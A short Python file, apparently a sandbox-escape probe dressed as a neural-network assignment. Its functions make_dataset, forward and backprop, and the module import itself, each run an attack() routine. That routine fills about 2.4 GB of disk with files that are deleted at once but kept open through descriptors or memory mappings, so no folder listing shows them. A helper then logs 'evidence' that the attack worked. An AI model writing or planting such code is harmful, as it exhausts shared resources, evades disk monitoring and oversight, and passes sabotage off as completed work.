"""Fills the disk with files that stand in no folder: deleted at once, and kept by a descriptor or a mapping."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE deleted-open-files:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-deleted-open-files", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

import mmap

BLOCK = bytes(1 << 20)
kept = []


def attack():
    for number in range(40):
        descriptor = os.open("part", os.O_RDWR | os.O_CREAT)
        os.unlink("part")
        for _ in range(60):
            os.write(descriptor, BLOCK)
        kept.append(mmap.mmap(descriptor, 4096) if number % 2 else descriptor)
    evidence("holds 2.4 GB that no folder shows")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
